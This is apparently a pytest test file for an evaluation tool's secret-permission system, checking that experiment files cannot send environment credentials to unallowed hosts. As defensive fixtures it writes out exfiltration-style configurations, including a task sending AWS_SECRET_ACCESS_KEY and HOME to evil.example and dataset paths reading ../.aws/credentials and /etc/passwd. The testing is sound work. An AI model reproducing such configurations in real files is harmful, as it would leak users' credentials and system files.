"""`evaluand secrets`, and what experiment files may send where, over real servers on loopback."""

from __future__ import annotations

import json
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field, replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from evaluand.cli import main
from evaluand.core.errors import EvaluandWarning, SpecError
from evaluand.data.dataset import Dataset
from evaluand.evaluation.feedback.references import referred
from evaluand.experiment import Experiment
from evaluand.models.chat_model import ChatModel
from evaluand.run.runner import Runner
from evaluand.run.tasks.instruct import Instruct
from evaluand.run.tasks.service import ServiceTask

SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
EXPERIMENT = """
name: theirs
dataset: {{path: rows.jsonl, input: [text], expected: answer}}
tasks:
  bot: {task}
scorers: {{same: exact_match}}
metrics: [accuracy]
"""


@dataclass
class Server:
    """A server that stores what reaches it, and answers or redirects."""

    port: int = 0
    redirect: str | None = None
    requests: list[tuple[str, dict[str, str]]] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"


@pytest.fixture
def serve() -> Iterator[Callable[..., Server]]:
    started = []

    def start(redirect: str | None = None) -> Server:
        told = Server(redirect=redirect)

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                asked = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                told.requests.append((self.path, {name.lower(): value for name, value in self.headers.items()}))
                choice = {"message": {"role": "assistant", "content": "A"}, "finish_reason": "stop"}
                body = json.dumps({"choices": [choice]} if "messages" in asked else {"text": "A"}).encode()
                self.send_response(307 if told.redirect else 200)
                if told.redirect:
                    self.send_header("Location", told.redirect)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *parts: object) -> None:
                pass

        server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        told.port = server.server_port
        threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True).start()
        started.append(server)
        return told

    yield start
    for server in started:
        server.shutdown()
        server.server_close()


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    monkeypatch.delenv("EVALUAND_SECRETS", raising=False)
    checkout = tmp_path / "checkout"
    checkout.mkdir()
    (checkout / "rows.jsonl").write_text('{"text":"a","answer":"A"}\n')
    monkeypatch.chdir(checkout)
    return checkout


def call(*arguments: object, code: int = 0) -> Result:
    result = CliRunner().invoke(main, [str(argument) for argument in arguments])
    assert result.exit_code == code, result.output
    return result


def service(url: str, headers: str = '{X: "${AWS_SECRET_ACCESS_KEY}"}') -> str:
    return EXPERIMENT.format(
        task=f'{{kind: service, url: "{url}", headers: {headers},'
        " output_pipeline: [{kind: TransformJSON, configuration: $.text}]}"
    )


def chat(url: str) -> str:
    model = f'{{url: "{url}", name: m, api_key: AWS_SECRET_ACCESS_KEY}}'
    written = EXPERIMENT.format(task=f"{{kind: instruct, instruction: Say A., model: {model}}}")
    return written.replace("[text]", "text")


@pytest.mark.parametrize(
    "written",
    [
        lambda url: service(url),
        lambda url: service(url + "/${AWS_SECRET_ACCESS_KEY}", "{}"),
        lambda url: service(url + "/?x=${AWS_SECRET_ACCESS_KEY}", "{}"),
        lambda url: service(url, '{X: "a ${AWS_SECRET_ACCESS_KEY} b"}'),
        chat,
    ],
)
def test_a_file_sends_no_variable_to_a_host_that_the_user_has_not_allowed(
    folder: Path, serve: Callable[..., Server], written: Callable[[str], str]
) -> None:
    server = serve()
    (folder / "theirs.yaml").write_text(written(server.url))
    for command in ("run", "validate"):
        reported = call(command, "theirs.yaml", code=1).output
        address = f"127.0.0.1:{server.port}"
        assert f"AWS_SECRET_ACCESS_KEY is not sent to {address}, which you have not allowed" in reported
        assert f"evaluand secrets allow AWS_SECRET_ACCESS_KEY {address}" in reported
        assert SECRET not in reported
    assert server.requests == []
    call("secrets", "allow", "AWS_SECRET_ACCESS_KEY", f"127.0.0.1:{server.port}")
    call("run", "theirs.yaml")
    assert len(server.requests) == 1
    assert SECRET in json.dumps(server.requests).replace("%2F", "/")
    call("secrets", "remove", "AWS_SECRET_ACCESS_KEY")
    assert "is not sent" in call("run", "theirs.yaml", "--fresh", code=1).output
    assert len(server.requests) == 1


def test_a_redirect_carries_no_variable_to_another_host_or_port(
    folder: Path, serve: Callable[..., Server], monkeypatch: pytest.MonkeyPatch
) -> None:
    other = serve()
    server = serve(redirect=f"{other.url}/")
    monkeypatch.setenv("EVALUAND_SECRETS", "AWS_SECRET_ACCESS_KEY=127.0.0.1")
    (folder / "theirs.yaml").write_text(service(server.url))
    assert "redirects to another host" in call("run", "theirs.yaml", code=1).output
    assert (len(server.requests), other.requests) == (1, [])


def test_neither_the_checkout_nor_its_settings_can_allow_a_host(folder: Path, serve: Callable[..., Server]) -> None:
    server = serve()
    (folder / "theirs.yaml").write_text(service(server.url))
    allowed = f"AWS_SECRET_ACCESS_KEY: [127.0.0.1:{server.port}]\n"
    for place in (".", ".config/evaluand", ".evaluand"):
        (folder / place).mkdir(parents=True, exist_ok=True)
        (folder / place / "secrets.yaml").write_text(allowed)
    assert "is not sent" in call("run", "theirs.yaml", code=1).output
    (folder / "evaluand.toml").write_text(f'[secrets]\nallow = ["AWS_SECRET_ACCESS_KEY=127.0.0.1:{server.port}"]\n')
    call("run", "theirs.yaml", code=1)
    assert server.requests == []


def test_another_name_for_a_host_needs_its_own_permission(folder: Path, serve: Callable[..., Server]) -> None:
    server = serve()
    call("secrets", "allow", "AWS_SECRET_ACCESS_KEY", "127.0.0.1")
    (folder / "theirs.yaml").write_text(service(f"http://localhost:{server.port}"))
    assert f"is not sent to localhost:{server.port}" in call("run", "theirs.yaml", code=1).output
    assert server.requests == []


def test_a_file_cannot_reach_a_host_through_the_name_of_another(
    folder: Path, serve: Callable[..., Server], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("EVALUAND_SECRETS", "AWS_SECRET_ACCESS_KEY=127.0.0.1")
    (folder / "theirs.yaml").write_text(service(serve().url, '{Host: evil.example, X: "${AWS_SECRET_ACCESS_KEY}"}'))
    assert "headers.Host: is set by the url; leave it out" in call("validate", "theirs.yaml", code=1).output


def test_a_file_sends_no_variable_without_encryption_unless_the_user_accepts_that(folder: Path) -> None:
    call("secrets", "allow", "AWS_SECRET_ACCESS_KEY", "models.example")
    (folder / "theirs.yaml").write_text(service("http://models.example/"))
    reported = call("validate", "theirs.yaml", code=1).output
    assert "AWS_SECRET_ACCESS_KEY is not sent to http://models.example without encryption" in reported
    call("secrets", "allow", "AWS_SECRET_ACCESS_KEY", "http://models.example")
    call("validate", "theirs.yaml")


def test_what_the_user_writes_in_python_needs_no_permission(folder: Path, serve: Callable[..., Server]) -> None:
    server = serve()
    data = Dataset.from_rows([{"text": "a"}], input=["text"])
    Runner().run(ServiceTask(server.url, headers={"X": "${AWS_SECRET_ACCESS_KEY}"}), data)
    model = ChatModel(f"{server.url}/v1", "m", api_key="AWS_SECRET_ACCESS_KEY")
    Runner().run(Instruct(model), Dataset.from_rows([{"text": "a"}], input="text"))
    assert [request[1].get("x") or request[1].get("authorization") for request in server.requests] == [
        SECRET,
        f"Bearer {SECRET}",
    ]


def test_a_task_of_a_file_stays_one_when_python_changes_it(
    folder: Path, serve: Callable[..., Server], monkeypatch: pytest.MonkeyPatch
) -> None:
    server = serve()
    data = Dataset.from_rows([{"text": "a"}], input="text")
    (folder / "theirs.yaml").write_text(service(server.url))
    (folder / "chat.yaml").write_text(chat(server.url))
    monkeypatch.setenv("EVALUAND_SECRETS", "AWS_SECRET_ACCESS_KEY=127.0.0.1")
    task = Experiment.from_file(folder / "theirs.yaml").tasks["bot"]
    model = Experiment.from_file(folder / "chat.yaml").tasks["bot"].model
    monkeypatch.delenv("EVALUAND_SECRETS")
    for changed in (task, replace(task, model="m"), Instruct(replace(model, max_tokens=8))):
        with pytest.raises(SpecError, match="AWS_SECRET_ACCESS_KEY is not sent to"):
            Runner().run(changed, data)
    assert server.requests == []


def test_python_code_that_sends_a_variable_without_encryption_is_warned_once(
    folder: Path, recwarn: pytest.WarningsRecorder
) -> None:
    task = ServiceTask("http://models.example:8000/", headers={"X": "${AWS_SECRET_ACCESS_KEY}"})
    with pytest.warns(EvaluandWarning, match="AWS_SECRET_ACCESS_KEY is sent to http://models.example:8000 without enc"):
        task.prepare(Dataset.from_rows([{"text": "a"}]))
    task.prepare(Dataset.from_rows([{"text": "a"}]))


@pytest.mark.parametrize(
    "written",
    [
        service("http://127.0.0.1:1/?pwd=hunter2", "{}"),
        service("http://127.0.0.1:1/?credential=hunter2", "{}"),
        service("http://127.0.0.1:1/?code=hunter2", "{}"),
        service("http://127.0.0.1:1/?user_pass=hunter2", "{}"),
        service("http://127.0.0.1:1/", "{X-Pass: hunter2}"),
        service("http://127.0.0.1:1/", "{X-Pwd: hunter2}"),
        service("http://127.0.0.1:1/", "{X-Credential: hunter2}"),
    ],
)
def test_secrets_that_are_written_out_are_refused(folder: Path, written: str) -> None:
    (folder / "theirs.yaml").write_text(written)
    reported = call("validate", "theirs.yaml", code=1).output
    assert "write the secret as ${NAME} of an environment variable" in reported
    assert "hunter2" not in reported


def test_harmless_parameters_and_headers_are_sent() -> None:
    ServiceTask("http://127.0.0.1/?country_code=de&bypass=1&encoding=utf-8&passage=3", headers={"X-Compass": "north"})


def test_permissions_are_listed_with_their_origin(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    call("secrets", "allow", "AWS_SECRET_ACCESS_KEY", "models.example")
    call("secrets", "allow", "AWS_SECRET_ACCESS_KEY", "models.example")
    monkeypatch.setenv("EVALUAND_SECRETS", "OTHER=127.0.0.1")
    listed = json.loads(call("secrets", "list", "--json").stdout)
    own = [row for row in listed["permissions"] if row["source"] != "built in"]
    assert own == [
        {"name": "AWS_SECRET_ACCESS_KEY", "host": "models.example", "source": "settings", "set": True},
        {"name": "OTHER", "host": "127.0.0.1", "source": "environment", "set": False},
    ]
    assert {"name": "OPENAI_API_KEY", "host": "api.openai.com"}.items() <= next(
        row for row in listed["permissions"] if row["name"] == "OPENAI_API_KEY"
    ).items()
    assert Path(listed["file"]).read_text() == "AWS_SECRET_ACCESS_KEY: ['models.example']\n"
    assert SECRET not in call("secrets", "list").output


def test_the_value_of_a_secret_in_place_of_its_name_is_not_repeated(folder: Path) -> None:
    reported = call("secrets", "allow", "sk-live-0123456789", "models.example", code=1).output
    assert "NAME must be the name of an environment variable" in reported
    assert "sk-live" not in reported
    assert "do not allow TOKEN" in call("secrets", "remove", "TOKEN", code=1).output
    assert "built-in one cannot be removed" in call("secrets", "remove", "OPENAI_API_KEY", code=1).output


THEIRS = """
name: theirs
dataset: {path: rows.jsonl, input: text, expected: answer, schema: models.py:Row}
tasks:
  bot: {kind: service, url: "https://evil.example/a?x=${HOME}", headers: {X: "${AWS_SECRET_ACCESS_KEY}", Y: a}}
  near: {kind: service, url: "http://me:word@127.0.0.1:8000/"}
  gpt: {kind: instruct, model: {url: https://api.openai.com/v1, name: gpt, api_key: OPENAI_API_KEY}}
  program: {kind: program, command: touch executed --api-key sk-123, folder: bin, env: {MODE: fast}}
  mine: app.py:answer
scorers: {same: exact_match, judge: app.py:grade}
metrics: [accuracy, {function: "metrics.py:top", scorer: same}]
run: {transient: [theirs.Busy, TransientError]}
"""


def test_validate_lists_hosts_variables_programs_and_code_without_executing_any(folder: Path) -> None:
    for name in ("app", "models", "metrics", "theirs"):
        (folder / f"{name}.py").write_text("import pathlib\npathlib.Path('executed').touch()\n")
    (folder / "theirs.yaml").write_text(THEIRS)
    access = json.loads(call("validate", "theirs.yaml", "--access", "--json").stdout)["access"]
    unsent = "is not sent to evil.example, which you have not allowed; if you trust this host: evaluand secrets allow"
    assert access == {
        "hosts": [
            {
                "where": "tasks.bot",
                "host": "https://evil.example",
                "variables": ["AWS_SECRET_ACCESS_KEY", "HOME"],
                "refused": {
                    "AWS_SECRET_ACCESS_KEY": f"AWS_SECRET_ACCESS_KEY {unsent} AWS_SECRET_ACCESS_KEY evil.example",
                    "HOME": f"HOME {unsent} HOME evil.example",
                },
            },
            {"where": "tasks.near", "host": "http://127.0.0.1:8000", "variables": [], "refused": {}},
            {"where": "tasks.gpt", "host": "https://api.openai.com", "variables": ["OPENAI_API_KEY"], "refused": {}},
        ],
        "programs": [
            {
                "where": "tasks.program",
                "command": ["touch", "executed", "--api-key", "***"],
                "folder": "bin",
                "environment": ["MODE"],
                "loading": {},
            }
        ],
        "code": [
            {"module": "app.py", "where": ["tasks.mine", "scorers.judge"]},
            {"module": "metrics.py", "where": ["metrics.1"]},
            {"module": "models.py", "where": ["dataset"]},
            {"module": "theirs", "where": ["run.transient"]},
        ],
        "files": [{"where": "dataset", "path": "rows.jsonl", "outside": False}],
    }
    assert not (folder / "executed").exists()
    shown = call("validate", "theirs.yaml", "--access").stdout
    assert "host   tasks.bot: https://evil.example would receive AWS_SECRET_ACCESS_KEY, which you have not" in shown
    assert (
        "start  tasks.program: touch executed --api-key '***' in bin, with all environment variables, and with MODE"
        in shown
    )
    assert "import app.py: tasks.mine, scorers.judge" in shown
    assert "word" not in shown
    listed = json.loads(call("validate", "theirs.yaml", "--json", code=1).stdout)
    assert (listed["access"], bool(listed["faults"])) == (access, True)


def test_variables_with_which_a_program_would_load_code_are_shown(folder: Path) -> None:
    task = "{kind: program, command: python3 app.py, env: {PYTHONPATH: ./lib, LD_PRELOAD: ./x.so, KEY: word}}"
    (folder / "loading.yaml").write_text(EXPERIMENT.format(task=task))
    shown = call("validate", "loading.yaml", "--access").stdout
    assert (
        "with all environment variables, and with KEY, LD_PRELOAD, PYTHONPATH of the file; LD_PRELOAD=./x.so" in shown
    )
    assert "PYTHONPATH=./lib may decide which code it executes" in shown
    assert "word" not in shown


def test_access_of_a_file_that_names_none_and_of_one_with_faults(folder: Path) -> None:
    (folder / "plain.yaml").write_text(EXPERIMENT.format(task="{kind: recorded, path: a.jsonl}"))
    assert call("validate", "plain.yaml", "--access").stdout == "plain.yaml names no host, no program and no code\n"
    (folder / "wrong.yaml").write_text(EXPERIMENT.format(task="{kind: program}") + "metric: 3\n")
    assert "wrong.yaml:8" in call("validate", "wrong.yaml", "--access", code=1).stdout


@pytest.mark.parametrize(
    ("task", "reported"),
    [
        (
            "{kind: program, command: bot, env: {BOT_TOKEN: hunter2}}",
            "tasks.bot.env.BOT_TOKEN: is a credential written into the file; leave it out and set it in your",
        ),
        (
            "{function: app.py:Bot, parameters: {api_key: hunter2}}",
            "tasks.bot: parameters.api_key would be stored; let the code read it from an environment variable",
        ),
        (
            "{function: app.py:Bot, parameters: {clients: [{options: sk-proj-hunter2abc}]}}",
            "tasks.bot: parameters.clients.options would be stored",
        ),
        (
            "{kind: instruct, model: {url: https://a.example, name: m, parameters: {extra: {api_key: hunter2}}}}",
            "parameters.extra.api_key: would be stored; name the variable that holds the key as api_key",
        ),
        (
            "{kind: service, url: https://a.example, input_pipeline:"
            " [{kind: TransformJSON, configuration: {key: \"'sk-proj-hunter2abc'\"}}]}",
            "tasks.bot.input_pipeline: holds a token, which would be stored; send it in a header",
        ),
    ],
)
def test_credentials_for_programs_and_code_are_not_written_into_a_file(folder: Path, task: str, reported: str) -> None:
    (folder / "theirs.yaml").write_text(EXPERIMENT.format(task=task))
    shown = call("validate", "theirs.yaml", code=1).output
    assert reported in shown
    assert "hunter2" not in shown


def test_files_outside_the_folder_are_listed(folder: Path) -> None:
    theirs = EXPERIMENT.format(task="{kind: recorded, path: /etc/passwd}").replace("rows.jsonl", "../.aws/credentials")
    (folder / "theirs.yaml").write_text(theirs)
    shown = call("validate", "theirs.yaml", "--access").stdout
    assert "read   dataset: ../.aws/credentials, outside the folder of the experiment" in shown
    assert "read   tasks.bot: /etc/passwd, outside the folder of the experiment" in shown


JUDGES = """
from dataclasses import dataclass

from evaluand import ChatModel, NoOpTracer
from evaluand.evaluation.provider import Provider


@dataclass(frozen=True)
class Judge(Provider):
    url: str
    key: str

    def __post_init__(self):
        object.__setattr__(self, "chat", ChatModel(self.url, "m", api_key=self.key))

    def length(self, text):
        return float(len(self.chat.complete([{"role": "user", "content": text}], NoOpTracer()).text))
"""


def test_a_judge_that_a_store_describes_sends_no_variable_to_a_host_that_the_user_has_not_allowed(
    folder: Path, serve: Callable[..., Server], monkeypatch: pytest.MonkeyPatch
) -> None:
    server = serve()
    (folder / "secret_judges.py").write_text(JUDGES)
    monkeypatch.syspath_prepend(str(folder))
    parameters = {"url": f"{server.url}/v1", "key": "AWS_SECRET_ACCESS_KEY"}
    stored = {"class": "secret_judges:Judge", "parameters": parameters, "method": "length"}
    judge = referred(stored, modules=["secret_judges"]).make()
    with pytest.raises(SpecError, match="AWS_SECRET_ACCESS_KEY is not sent to"):
        judge("a")
    assert server.requests == []
    monkeypatch.setenv("EVALUAND_SECRETS", "AWS_SECRET_ACCESS_KEY=127.0.0.1")
    assert judge("a") == 1.0


def test_an_error_on_the_terminal_shows_no_value_of_a_credential(folder: Path) -> None:
    (folder / "app.py").write_text("import os\nraise ValueError(os.environ['AWS_SECRET_ACCESS_KEY'])\n")
    (folder / "theirs.yaml").write_text(EXPERIMENT.format(task="app.py:answer"))
    reported = call("run", "theirs.yaml", code=1).output
    assert "ValueError: ${AWS_SECRET_ACCESS_KEY}" in reported
    assert SECRET not in reported


def test_schemas_and_what_a_program_depends_on_are_listed(folder: Path) -> None:
    task = "{kind: program, command: ['true'], files: [/etc/hosts], output_schema: /etc/schema.json}"
    theirs = EXPERIMENT.format(task=task).replace("rows.jsonl,", "rows.jsonl, schema: ../schema.json,")
    (folder / "theirs.yaml").write_text(theirs)
    shown = call("validate", "theirs.yaml", "--access").stdout
    for place in ("dataset: ../schema.json", "tasks.bot: /etc/hosts", "tasks.bot: /etc/schema.json"):
        assert shown.count(f"read   {place}, outside the folder of the experiment") == 1
